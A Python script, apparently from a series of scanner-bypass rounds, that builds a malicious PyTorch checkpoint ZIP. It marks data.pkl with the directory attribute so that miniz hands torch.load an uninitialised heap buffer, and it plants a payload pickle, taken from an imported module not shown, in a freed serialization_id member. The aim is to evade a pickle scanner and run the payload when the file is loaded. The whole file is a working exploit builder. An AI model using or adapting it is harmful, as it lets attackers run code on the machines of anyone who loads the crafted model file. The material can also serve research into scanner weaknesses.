# data.pkl's central entry carries the DOS directory attribute (external attr 0x10).
# miniz: mz_zip_reader_extract_to_mem_no_alloc1 returns MZ_TRUE at once for "a directory or zero
# length file" (file_stat.m_is_directory is true when external_attr & 0x10), so torch's getRecord
# hands back the c10-allocated buffer of m_uncomp_size bytes UNREAD (uninitialised heap), and
# torch.load unpickles that, not the bytes we checked. A same-sized .data/serialization_id (read
# and freed by PyTorchStreamReader::init before data.pkl) carries the payload pickle (no PROTO
# byte, so our scanner never looks inside a non-.pkl member).
import sys, os, struct, zlib
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__))); sys.path.insert(1, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'round7'))
from zlib7 import lh, payload
def ch(name, cs, us, lho, crc, ext_attr=0):
    return struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, 0, 0, 0, 0x21, crc, cs, us,
                       len(name), 0, 0, 0, 0, ext_attr, lho) + name
def eocd(n, cdsize, cdoff):
    return struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, n, n, cdsize, cdoff, 0)
out, mode = sys.argv[1], (sys.argv[2] if len(sys.argv) > 2 else '')
P = payload(mode)[2:]                      # drop PROTO: a protocol-2 stream without its header
S = 4096
benign = b'\x80\x02}q\x00(X\x01\x00\x00\x00pq\x01X' + struct.pack("<I", S - 23) + b'.' * (S - 23) + b'q\x02u.'
assert len(benign) == S, len(benign)
sid = P + b'\x00' * (S - len(P))            # "serialization id": payload, padded to S
recs = [(b'archive/data.pkl', benign, 0x10), (b'archive/version', b'3\n', 0), (b'archive/.data/serialization_id', sid, 0)]
f = bytearray(); cd = b''
for name, data, attr in recs:
    off = len(f); f += lh(name, len(data), len(data), zlib.crc32(data)); f += data
    cd += ch(name, len(data), len(data), off, zlib.crc32(data), attr)
cdoff = len(f); f += cd; f += eocd(len(recs), len(cd), cdoff)
open(out, 'wb').write(f)
if mode == 'print':
    print("replay with round7/miniz_sim.py patched to return directory entries unread (see ../README.md)")
